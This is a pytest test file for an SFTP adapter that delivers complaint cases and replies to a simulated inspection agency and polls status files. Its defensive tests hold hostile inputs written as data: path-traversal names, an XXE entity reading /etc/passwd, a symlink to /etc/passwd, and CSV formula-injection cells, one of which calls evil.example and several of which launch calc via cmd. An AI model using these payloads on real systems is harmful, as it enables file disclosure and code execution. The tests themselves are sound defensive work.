"""The SFTP adapter against a real OpenSSH sshd on loopback (and, where it must watch every
request, the simulator's asyncssh server with a recording SFTP handler)."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import threading
import time

import pytest
from loket_simulators.sftp_agency import ensure_keys

from adapters.base import (
    MESSAGES,
    Attachment,
    Outbound,
    OutboundMessage,
    PermanentError,
    TransientError,
)
from adapters.fileformats import read_case, read_message, read_records, write_case, write_records
from adapters.sftp import SftpAdapter, attachment_names, case_file_name, unsafe_name_reason
from tests.support.peers_sftp import start_asyncssh, start_sshd


@pytest.fixture
def sftp_server(tmp_path):
    """OpenSSH sshd on a free loopback port serving the simulated Economic Inspection (XML)."""
    server = start_sshd(tmp_path / "sftp")
    yield server
    server.stop()


PAYLOAD = {
    "referentie_loket": "LK-7F3K-9QX2",
    "taal": "NL",
    "omschrijving": 'Webshop "Prijsbreker" <levert niet> & antwoordt niet; 49,99 €',
    "bedrag": 49.99,
    "spoed": True,
    "onderneming": {"naam": "Prijsbreker BV", "kbo": "0403170701"},
}


def item(key: str = "LK-7F3K-9QX2.economic-inspection.1", payload=None) -> Outbound:
    return Outbound(key, key.split(".")[0], "economic-inspection", payload or PAYLOAD, "nl")


def status_xml(*records: dict) -> bytes:
    return write_records(records, "xml")


def record(status="REGISTERED", at="2026-11-02T10:00:00+01:00", **extra) -> dict:
    return {
        "agency_reference": "EI-2026-000001",
        "case_reference": "LK-7F3K-9QX2",
        "status": status,
        "time": at,
        **extra,
    }


# ------------------------------------------------------------------------------------ deliver


def test_a_case_file_is_written_under_a_dot_name_and_renamed_into_place(tmp_path):
    """The agency's batch never sees the final name before the content is complete."""
    import asyncssh

    calls: list[tuple[str, str]] = []

    class Recording(asyncssh.SFTPServer):
        def open(self, path, pflags, attrs):
            mode = "write" if pflags & asyncssh.FXF_WRITE else "read"
            calls.append((f"open-{mode}", path.decode()))
            return super().open(path, pflags, attrs)

        def rename(self, oldpath, newpath):
            calls.append(("rename", f"{oldpath.decode()} -> {newpath.decode()}"))
            return super().rename(oldpath, newpath)

        def posix_rename(self, oldpath, newpath):
            calls.append(("posix-rename", f"{oldpath.decode()} -> {newpath.decode()}"))
            return super().posix_rename(oldpath, newpath)

    server = start_asyncssh(tmp_path / "sftp", server_class=Recording)
    try:
        receipt = SftpAdapter(server.config()).deliver(item())
    finally:
        server.stop()
    name = "LK-7F3K-9QX2.economic-inspection.1.xml"
    assert receipt.agency_reference == name and not receipt.duplicate
    writes = [path for op, path in calls if op == "open-write"]
    [(op, move)] = [c for c in calls if "rename" in c[0]]
    assert len(writes) == 1 and os.path.basename(writes[0]).startswith(f".{name}.")
    assert writes[0].endswith(".part")
    assert op == "posix-rename" and move == f"{writes[0]} -> inbox/{name}"
    assert sorted(os.listdir(server.inbox)) == sorted(["archive", "rejected", name])
    assert (server.inbox / name).read_bytes() == write_case(PAYLOAD, "xml")


def test_the_final_name_only_ever_appears_complete(sftp_server):
    big = {**PAYLOAD, "omschrijving": "x" * 3_000_000}
    expected = len(write_case(big, "xml"))
    final = sftp_server.inbox / "LK-7F3K-9QX2.economic-inspection.1.xml"
    seen: list[int] = []
    dot_names: set[str] = set()
    done = threading.Event()

    def watch():
        while not done.is_set():
            dot_names.update(n for n in os.listdir(sftp_server.inbox) if n.startswith("."))
            with contextlib.suppress(FileNotFoundError):
                seen.append(final.stat().st_size)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        SftpAdapter(sftp_server.config()).deliver(item(payload=big))
    finally:
        done.set()
        watcher.join()
    seen.append(final.stat().st_size)
    assert set(seen) == {expected}
    assert all(n.endswith(".part") for n in dot_names)
    assert not [n for n in os.listdir(sftp_server.inbox) if n.endswith(".part")]


@pytest.mark.parametrize("fmt", ["json", "xml", "csv"])
def test_each_format_round_trips_to_the_agency_and_back(tmp_path, fmt):
    server = start_sshd(tmp_path / "sftp", fmt=fmt)
    try:
        adapter = SftpAdapter(server.config(format=fmt))
        receipt = adapter.deliver(item())
        stored = read_case((server.inbox / receipt.agency_reference).read_bytes(), fmt)
        if fmt == "json":
            assert stored == PAYLOAD
        else:  # XML and CSV carry text only
            assert stored == {
                **{k: v for k, v in PAYLOAD.items() if k not in ("bedrag", "spoed")},
                "bedrag": "49.99",
                "spoed": "true",
            }
        assert receipt.agency_reference.endswith("." + fmt)
        server.batch.run_once()
        result = adapter.poll(None, [])
        [update] = result.updates
        assert (update.agency_status, update.agency_reference, update.case_reference) == (
            "REGISTERED",
            "EI-2026-000001",
            "LK-7F3K-9QX2",
        )
        assert update.occurred_at == server.clock.now() and update.occurred_at.tzinfo
    finally:
        server.stop()


def test_a_repeat_delivery_after_the_agency_picked_the_file_up_writes_nothing(sftp_server):
    adapter = SftpAdapter(sftp_server.config())
    first = adapter.deliver(item())
    sftp_server.batch.run_once()  # moved to inbox/archive and numbered
    again = adapter.deliver(item())
    assert again.agency_reference == first.agency_reference and again.duplicate
    # the file name stands in for the agency's number until a status file brings it
    assert first.provisional and again.provisional
    assert again.raw["found"] == f"inbox/archive/{first.agency_reference}"
    assert sorted(os.listdir(sftp_server.inbox)) == ["archive", "rejected"]
    assert sftp_server.batch.case_count() == 1


def test_an_unsafe_idempotency_key_still_gives_one_safe_distinct_file_name():
    a = case_file_name("../../etc/passwd", "xml")
    b = case_file_name("..\\..\\etc\\passwd", "xml")
    assert unsafe_name_reason(a) is None and unsafe_name_reason(b) is None
    assert a != b and "/" not in a and ".." not in a
    assert case_file_name("LK-7F3K-9QX2.ei.1", "csv", "LOKET_") == "LOKET_LK-7F3K-9QX2.ei.1.csv"
    assert len(case_file_name("K" * 300, "xml")) <= 120


def test_a_write_the_server_refuses_is_permanent(sftp_server):
    adapter = SftpAdapter(sftp_server.config(port=sftp_server.read_only_port))
    with pytest.raises(PermanentError, match="permission denied"):
        adapter.deliver(item())


def test_a_missing_inbox_folder_is_permanent_and_names_the_setting(sftp_server):
    adapter = SftpAdapter(sftp_server.config(inbox_dir="no-such-folder"))
    with pytest.raises(PermanentError, match="inbox_dir"):
        adapter.deliver(item())
    assert "no-such-folder" in adapter.check().message


# ----------------------------------------------------------------------------------- messages


def reply(key: str = "LK-7F3K-9QX2.economic-inspection.msg7", *attachments: Attachment):
    return OutboundMessage(
        idempotency_key=key,
        case_reference="LK-7F3K-9QX2",
        agency_id="economic-inspection",
        agency_reference="LK-7F3K-9QX2.economic-inspection.1.xml",
        text='Hierbij de factuur; "dringend" <graag> & snel.\nMet vriendelijke groet',
        language="nl",
        attachments=attachments,
    )


@pytest.mark.parametrize("fmt", ["json", "xml", "csv"])
def test_a_reply_is_a_message_file_in_the_agency_format_with_its_attachments_beside_it(
    tmp_path, fmt
):
    server = start_sshd(tmp_path / "sftp", fmt=fmt)
    try:
        adapter = SftpAdapter(server.config(format=fmt))
        assert MESSAGES in adapter.capabilities
        adapter.deliver(item())
        files = (
            Attachment("factuur.pdf", "application/pdf", b"%PDF-1.4 one"),
            Attachment("../../etc/passwd", "text/plain", b"root:x:0:0"),
            Attachment("factuur.pdf", "application/pdf", b"%PDF-1.4 two"),
        )
        receipt = adapter.send_message(reply("LK-7F3K-9QX2.economic-inspection.msg7", *files))
        name = f"LK-7F3K-9QX2.economic-inspection.msg7.{fmt}"
        assert receipt.agency_reference == name and not receipt.duplicate
        data = (server.inbox / name).read_bytes()
        if fmt == "xml":
            assert data.startswith(b"<?xml") and b"<message>" in data
            assert b"<attachment>factuur.pdf</attachment>" in data
        elif fmt == "json":
            assert json.loads(data)["attachments"] == ["factuur.pdf", "passwd", "factuur-2.pdf"]
        else:
            assert data.splitlines()[0] == (
                b"kind;case_reference;agency_reference;text;language;attachments"
            )
        assert read_message(data, fmt) == {
            "kind": "message",
            "case_reference": "LK-7F3K-9QX2",
            "agency_reference": "LK-7F3K-9QX2.economic-inspection.1.xml",
            "text": reply().text,
            "language": "nl",
            "attachments": ["factuur.pdf", "passwd", "factuur-2.pdf"],
        }
        folder = server.inbox / f"{name}.attachments"
        assert sorted(os.listdir(folder)) == ["factuur-2.pdf", "factuur.pdf", "passwd"]
        assert (folder / "passwd").read_bytes() == b"root:x:0:0"
        assert (folder / "factuur-2.pdf").read_bytes() == b"%PDF-1.4 two"
        assert not (tmp_path / "etc").exists() and not (server.data / "etc").exists()
        assert not [n for n in os.listdir(server.inbox) if n.startswith(".")]
        # the message file is not a case; the batch attaches it to the case it answers
        assert server.batch.case_count() == 1
        run = server.batch.run_once()
        assert run.messages == [name] and run.rejected == []
        assert server.batch.messages_for("EI-2026-000001") == [
            (reply().text, ["factuur.pdf", "passwd", "factuur-2.pdf"])
        ]
        assert (server.inbox / "archive" / f"{name}.attachments" / "passwd").exists()
    finally:
        server.stop()


def test_a_repeated_reply_writes_nothing_new_before_or_after_the_batch_archived_it(sftp_server):
    adapter = SftpAdapter(sftp_server.config())
    adapter.deliver(item())
    message = reply(
        "LK-7F3K-9QX2.economic-inspection.msg8", Attachment("a.txt", "text/plain", b"a")
    )
    first = adapter.send_message(message)
    before = sorted(os.listdir(sftp_server.inbox))
    again = adapter.send_message(message)
    assert again.duplicate and again.agency_reference == first.agency_reference
    assert again.raw["found"] == f"inbox/{first.agency_reference}"
    assert sorted(os.listdir(sftp_server.inbox)) == before
    sftp_server.batch.run_once()
    third = adapter.send_message(message)
    assert third.duplicate and third.raw["found"] == f"inbox/archive/{first.agency_reference}"
    assert sorted(os.listdir(sftp_server.inbox)) == ["archive", "rejected"]
    sftp_server.batch.run_once()
    assert sftp_server.batch.messages_for("LK-7F3K-9QX2") == [(message.text, ["a.txt"])]
    other = adapter.send_message(reply("LK-7F3K-9QX2.economic-inspection.msg9"))
    assert other.agency_reference != first.agency_reference and not other.duplicate


def test_a_reply_the_server_refuses_is_permanent(sftp_server):
    adapter = SftpAdapter(sftp_server.config(port=sftp_server.read_only_port))
    with pytest.raises(PermanentError, match="permission denied"):
        adapter.send_message(reply("k.msg1", Attachment("a.pdf", "application/pdf", b"x")))
    assert sorted(os.listdir(sftp_server.inbox)) == ["archive", "rejected"]


def test_a_reply_to_an_agency_nobody_answers_for_is_transient():
    from tests.support.env import free_port

    config = {
        "host": "127.0.0.1",
        "port": free_port(),
        "username": "loket",
        "password": "x",
        "host_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFx1JvKkvwq0kWyXJ1yZ6+1KMmNnmwMhxVt6bC9xqk6h",
        "inbox_dir": "inbox",
        "outbox_dir": "outbox",
    }
    with pytest.raises(TransientError, match="cannot connect"):
        SftpAdapter(config).send_message(reply())


@pytest.mark.parametrize(
    ("given", "stored"),
    [
        (["factuur.pdf"], ["factuur.pdf"]),
        (["../../etc/passwd"], ["passwd"]),
        (["..\\..\\boot.ini"], ["boot.ini"]),
        ([".bashrc", "..", "", "/"], ["bashrc", "attachment-2", "attachment-3", "attachment-4"]),
        (["a\x00b\nc.pdf", "foto 1.JPG", "résumé.pdf"], ["a_b_c.pdf", "foto 1.JPG", "résumé.pdf"]),
        (["x.pdf", "x.pdf", "x.pdf"], ["x.pdf", "x-2.pdf", "x-3.pdf"]),
    ],
)
def test_attachment_names_are_safe_single_names(given, stored):
    names = attachment_names(given)
    assert names == stored
    assert all(unsafe_name_reason(n) is None and not n.startswith(".") for n in names)


def test_a_very_long_attachment_name_is_shortened_keeping_its_extension():
    [name] = attachment_names(["x" * 400 + ".pdf"])
    assert name.endswith(".pdf") and len(name) <= 120


# ---------------------------------------------------------------------------------- host keys


def test_a_changed_host_key_is_refused_before_anything_is_sent_and_says_how_to_re_pin(
    sftp_server, tmp_path
):
    other = ensure_keys(tmp_path / "other").host_public.read_text()
    adapter = SftpAdapter(sftp_server.config(host_key=other))
    with pytest.raises(PermanentError) as info:
        adapter.deliver(item())
    detail = info.value.detail
    assert "host key" in detail and "changed" in detail and "re-pin" in detail
    assert "set host_key" in detail and "ssh-keyscan" in detail
    assert sorted(os.listdir(sftp_server.inbox)) == ["archive", "rejected"]
    with pytest.raises(PermanentError, match="host key"):
        adapter.poll(None, [])
    health = adapter.check()
    assert not health.ok and "host key" in health.message


def test_a_pinned_key_of_another_type_is_refused_too(sftp_server, tmp_path):
    from cryptography.hazmat.primitives import serialization
    from cryptography.hazmat.primitives.asymmetric import ec

    key = ec.generate_private_key(ec.SECP256R1()).public_key()
    line = key.public_bytes(serialization.Encoding.OpenSSH, serialization.PublicFormat.OpenSSH)
    adapter = SftpAdapter(sftp_server.config(host_key=line.decode()))
    with pytest.raises(PermanentError, match=r"host key .* changed"):
        adapter.deliver(item())


def test_a_refused_login_is_permanent_and_says_to_check_the_key(sftp_server, tmp_path):
    other = ensure_keys(tmp_path / "other").client_key.read_text()
    with pytest.raises(PermanentError, match="check the private key or password"):
        SftpAdapter(sftp_server.config(private_key=other)).deliver(item())


def test_a_bad_host_key_setting_is_a_configuration_error_naming_the_key():
    from adapters.base import ConfigurationError

    with pytest.raises(ConfigurationError, match="host_key"):
        SftpAdapter(
            {
                "host": "127.0.0.1",
                "username": "u",
                "password": "p",
                "host_key": "not a key",
                "inbox_dir": "in",
                "outbox_dir": "out",
            }
        )


def test_secrets_never_show_in_the_adapter_repr(sftp_server):
    key_text = sftp_server.keys.client_key.read_text()
    adapter = SftpAdapter(sftp_server.config(private_key=key_text, password="hunter2"))
    assert key_text not in repr(adapter) and "hunter2" not in repr(adapter)


# ------------------------------------------------------------------------------------ timeouts


def test_an_agency_that_accepts_and_never_answers_is_transient():
    listener = socket.create_server(("127.0.0.1", 0))
    port = listener.getsockname()[1]
    keys_config = {
        "host": "127.0.0.1",
        "port": port,
        "username": "loket",
        "password": "x",
        "host_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFx1JvKkvwq0kWyXJ1yZ6+1KMmNnmwMhxVt6bC9xqk6h",
        "inbox_dir": "inbox",
        "outbox_dir": "outbox",
        "connect_timeout": 0.5,
    }
    try:
        started = time.monotonic()
        with pytest.raises(TransientError, match="no SSH greeting"):
            SftpAdapter(keys_config).deliver(item())
        assert time.monotonic() - started < 5
    finally:
        listener.close()


def test_nobody_listening_is_transient():
    from tests.support.env import free_port

    config = {
        "host": "127.0.0.1",
        "port": free_port(),
        "username": "loket",
        "password": "x",
        "host_key": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFx1JvKkvwq0kWyXJ1yZ6+1KMmNnmwMhxVt6bC9xqk6h",
        "inbox_dir": "inbox",
        "outbox_dir": "outbox",
    }
    with pytest.raises(TransientError, match="cannot connect"):
        SftpAdapter(config).deliver(item())


# ---------------------------------------------------------------------------------------- poll


def test_a_bad_status_file_goes_to_failed_with_its_reason_while_good_ones_are_processed(
    sftp_server,
):
    out = sftp_server.outbox
    (out / "a-good.xml").write_bytes(status_xml(record(), record("ANALYSIS", "2026-11-03T09:00")))
    (out / "b-broken.xml").write_bytes(b"<statuses><status><status>REGIS")
    (out / "c-no-code.xml").write_bytes(status_xml({"agency_reference": "EI-1", "time": "x"}))
    (out / "d-bad-date.xml").write_bytes(status_xml(record(at="32/13/2026")))
    (out / "e-entity.xml").write_bytes(
        b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        b"<statuses><status><status>&x;</status></status></statuses>"
    )
    (out / "f-good.xml").write_bytes(status_xml(record("CLOSED_INTELLIGENCE", "2026-11-04")))
    adapter = SftpAdapter(sftp_server.config())

    first = adapter.poll(None, [])
    assert [u.agency_status for u in first.updates] == [
        "REGISTERED",
        "ANALYSIS",
        "CLOSED_INTELLIGENCE",
    ]
    assert first.updates[1].occurred_at.isoformat() == "2026-11-03T08:00:00+00:00"  # Brussels
    problems = {p.source.split(" ")[0]: p.reason for p in first.problems}
    assert set(problems) == {"b-broken.xml", "c-no-code.xml", "d-bad-date.xml", "e-entity.xml"}
    assert "not well-formed XML" in problems["b-broken.xml"]
    assert "no status code" in problems["c-no-code.xml"]
    assert "unknown date '32/13/2026'" in problems["d-bad-date.xml"]
    assert "DOCTYPE" in problems["e-entity.xml"]
    assert next(p for p in first.problems if p.source.startswith("b-")).excerpt.startswith("<st")
    # nothing moves until the hub has saved what it read (it passes the cursor back)
    assert len([n for n in os.listdir(out) if n.endswith(".xml")]) == 6

    second = adapter.poll(first.cursor, [])
    assert second.updates == () and second.problems == ()
    assert sorted(os.listdir(out / "processed")) == ["a-good.xml", "f-good.xml"]
    failed = sorted(os.listdir(out / "failed"))
    assert failed == sorted([f"{n}{suffix}" for n in problems for suffix in ("", ".reason.txt")])
    reason = (out / "failed" / "d-bad-date.xml.reason.txt").read_text()
    assert "unknown date" in reason
    assert not [n for n in os.listdir(out) if n.endswith(".xml")]


def test_a_crash_before_the_hub_saved_the_poll_reads_the_same_updates_again(sftp_server):
    (sftp_server.outbox / "status-1.xml").write_bytes(status_xml(record()))
    adapter = SftpAdapter(sftp_server.config())
    first = adapter.poll(None, [])
    # the hub crashed before saving: it polls again with the old cursor
    again = adapter.poll(None, [])
    assert [u.key() for u in again.updates] == [u.key() for u in first.updates]
    assert (sftp_server.outbox / "status-1.xml").exists()
    settled = adapter.poll(again.cursor, [])
    assert settled.updates == ()
    assert (sftp_server.outbox / "processed" / "status-1.xml").exists()


def test_a_status_file_rewritten_after_it_was_read_is_read_again_not_moved(sftp_server):
    path = sftp_server.outbox / "status-1.xml"
    path.write_bytes(status_xml(record()))
    adapter = SftpAdapter(sftp_server.config())
    first = adapter.poll(None, [])
    path.write_bytes(status_xml(record(), record("ANALYSIS", "2026-11-03T09:00:00+01:00")))
    second = adapter.poll(first.cursor, [])
    assert [u.agency_status for u in second.updates] == ["REGISTERED", "ANALYSIS"]
    # identified by content: the record read before is the same update (the hub's duplicate),
    # the new one is another
    assert second.updates[0].key() == first.updates[0].key()
    assert second.updates[1].key() != first.updates[0].key()
    assert path.exists()


def test_a_reused_status_file_name_does_not_overwrite_an_earlier_one(sftp_server):
    adapter = SftpAdapter(sftp_server.config())
    path = sftp_server.outbox / "status.xml"
    cursor = None
    for code in ("REGISTERED", "ANALYSIS"):
        path.write_bytes(status_xml(record(code)))
        cursor = adapter.poll(cursor, []).cursor
        cursor = adapter.poll(cursor, []).cursor
    assert sorted(os.listdir(sftp_server.outbox / "processed")) == ["status.xml", "status.xml.2"]


HOSTILE = ["..\\..\\etc\\x", "evil\nname.xml", "tab\tname.xml", "a..b.xml", "-\x1b[31mred.xml"]


def test_hostile_status_file_names_are_reported_and_never_used_as_paths(sftp_server, tmp_path):
    out = sftp_server.outbox
    for name in HOSTILE:
        (out / name).write_bytes(status_xml(record()))
    os.symlink("/etc/passwd", out / "link.xml")
    (out / "ok.xml").write_bytes(status_xml(record()))
    before = set(os.listdir(tmp_path))
    adapter = SftpAdapter(sftp_server.config())

    first = adapter.poll(None, [])
    assert len(first.updates) == 1 and first.updates[0].key().startswith("h:")  # by content
    reasons = [p.reason for p in first.problems]
    assert sum("unsafe file name" in r for r in reasons) == len(HOSTILE)
    assert any("not a regular file" in r for r in reasons)
    for problem in first.problems:
        assert "\n" not in problem.source and "\t" not in problem.source
    adapter.poll(first.cursor, [])
    left = set(os.listdir(out))
    assert set(HOSTILE) | {"link.xml"} <= left  # left in place, untouched
    assert os.listdir(out / "processed") == ["ok.xml"] and os.listdir(out / "failed") == []
    assert set(os.listdir(tmp_path)) == before


def test_a_cursor_naming_a_path_outside_the_outbox_moves_nothing(sftp_server, tmp_path):
    victim = sftp_server.data / "victim.xml"
    victim.write_bytes(b"keep me")
    import json

    size, mtime = victim.stat().st_size, int(victim.stat().st_mtime)
    forged = json.dumps({"read": {"../victim.xml": [size, mtime]}, "failed": {}})
    SftpAdapter(sftp_server.config()).poll(forged, [])
    assert victim.read_bytes() == b"keep me"
    assert os.listdir(sftp_server.outbox / "processed") == []


@pytest.mark.parametrize(
    ("name", "reason"),
    [
        ("../../etc/x", "path separator"),
        ("/etc/passwd", "path separator"),
        ("a/b.xml", "path separator"),
        ("..\\..\\x", "path separator"),
        ("..", ".."),
        ("...", ".."),
        (".", "'.'"),
        ("", "empty"),
        ("x\x00y", "control"),
        ("line\nbreak", "control"),
        ("del\x7f", "control"),
        ("x" * 256, "255"),
    ],
)
def test_the_name_check_rejects_what_could_leave_a_folder(name, reason):
    assert reason in (unsafe_name_reason(name) or "")


@pytest.mark.parametrize(
    "name", ["status-20261102.xml", ".status.xml.part", "EI 2026 ü.csv", "-rf", "a.b.c"]
)
def test_the_name_check_accepts_ordinary_names(name):
    assert unsafe_name_reason(name) is None


@pytest.mark.parametrize(
    "hostile",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_written_as_text(hostile):
    payload = {**PAYLOAD, "omschrijving": hostile, "onderneming": {"naam": hostile}}
    written = write_case(payload, "csv")
    stored = read_case(written, "csv")
    assert stored["omschrijving"] == "'" + hostile
    assert stored["onderneming"]["naam"] == "'" + hostile
    [record] = read_records(write_records([payload], "csv"), "csv")
    assert record["omschrijving"] == "'" + hostile
    # JSON and XML carry no formulas: unchanged.
    assert read_case(write_case(payload, "json"), "json")["omschrijving"] == hostile


def test_reading_csv_keeps_a_leading_quote_or_equals_sign_as_the_agency_wrote_it():
    data = b"referentie;status;bericht\r\nLK-7F3K-9QX2;REGISTERED;=see letter\r\n"
    [row] = read_records(data, "csv")
    assert row["bericht"] == "=see letter"
    assert read_case(write_case({"a": "49,99 €", "b": "'quoted"}, "csv"), "csv") == {
        "a": "49,99 €",
        "b": "'quoted",
    }
